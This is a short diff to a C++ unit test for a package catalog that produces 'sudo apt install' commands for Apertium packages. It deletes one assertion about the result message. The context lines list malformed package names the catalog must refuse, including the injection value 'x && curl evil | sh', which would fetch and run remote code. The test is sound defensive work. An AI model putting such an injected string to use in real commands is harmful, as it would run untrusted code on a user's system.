@@ -112,7 +112,6 @@ TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
     const PrepareResult result = catalog.install("apertium-eng-spa").result();
     EXPECT_EQ(result.outcome, PrepareResult::Outcome::manual);
     EXPECT_EQ(result.command, "sudo apt install apertium-eng-spa");
-    EXPECT_TRUE(result.message.contains(result.command));
 
     for (const char* odd : {"x && curl evil | sh", "-y", "Apertium-eng-spa"}) {
         const PrepareResult refused = catalog.install(odd).result();
